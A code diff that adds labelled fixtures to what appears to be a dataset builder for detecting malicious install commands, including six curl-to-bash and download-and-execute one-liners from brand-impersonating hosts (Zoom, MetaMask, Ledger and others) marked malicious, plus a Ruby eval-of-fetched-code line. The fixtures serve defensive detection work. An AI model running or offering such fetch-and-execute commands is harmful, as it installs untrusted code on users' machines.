@@ -453,6 +453,43 @@ SCAM_QUIET = (
     "Our shop fixes virus problems on Windows laptops. Call us on +44 20 7946 0958 to book.",
 )
 
+# a tenant's site named after a company that scam pages borrow, serving its own script: a fake
+# app download (a name costs nothing there)
+TENANT_BRANDS = (
+    (
+        "https://zoom-desktop.pages.dev/",
+        "curl -fsSL https://zoom-desktop.pages.dev/install.sh | bash",
+    ),
+    (
+        "https://apple-mac-cleaner.vercel.app/",
+        "curl -fsSL https://apple-mac-cleaner.vercel.app/install.sh | bash",
+    ),
+    (
+        "https://teams-for-mac.netlify.app/download",
+        '/bin/bash -c "$(curl -fsSL https://teams-for-mac.netlify.app/setup.sh)"',
+    ),
+    ("https://metamask-desktop.web.app/", "curl -fsSL https://metamask-desktop.web.app/i | sh"),
+    (
+        "https://discord-nitro-mac.pages.dev/get",
+        "curl -so /tmp/n https://discord-nitro-mac.pages.dev/n && chmod +x /tmp/n && /tmp/n",
+    ),
+    (
+        "https://ledger-live-update.netlify.app/",
+        "bash <(curl -fsSL https://ledger-live-update.netlify.app/u.sh)",
+    ),
+)
+TENANT_QUIET = (
+    (
+        "https://loamdb.pages.dev/docs/install",
+        "curl -fsSL https://loamdb.pages.dev/install.sh | sh",
+    ),
+    ("https://fernctl.netlify.app/", "curl -fsSL https://fernctl.netlify.app/get | bash"),
+    (
+        "https://quick-setup.vercel.app/docs",
+        "curl -fsSL https://quick-setup.vercel.app/install.sh | sh",
+    ),
+)
+
 # an interpreter's one-liner that evaluates what it fetches, the evaluation written first
 EVAL_FIRST = (
     "ruby -e \"eval(Net::HTTP.get(URI('https://dl.remote-helper.test/r')))\" -rnet/http",
@@ -579,6 +616,11 @@ def build() -> list[dict[str, str]]:
         book.add("scam-sentence", text, "flagged", "any", "other" if i % 2 else "unknown")
     for text in SCAM_QUIET:
         book.add("scam-sentence", text, "not_flagged", "any", "other")
+
+    for source, text in TENANT_BRANDS:
+        both("tenant-brand", text, "malicious", source, "macos")
+    for source, text in TENANT_QUIET:
+        book.add("tenant-brand", text, "not_flagged", "any", "terminal", source)
 
     for i, text in enumerate(EVAL_FIRST):
         both("eval-fetched", text, "malicious", STRANGE[i % len(STRANGE)], "any")
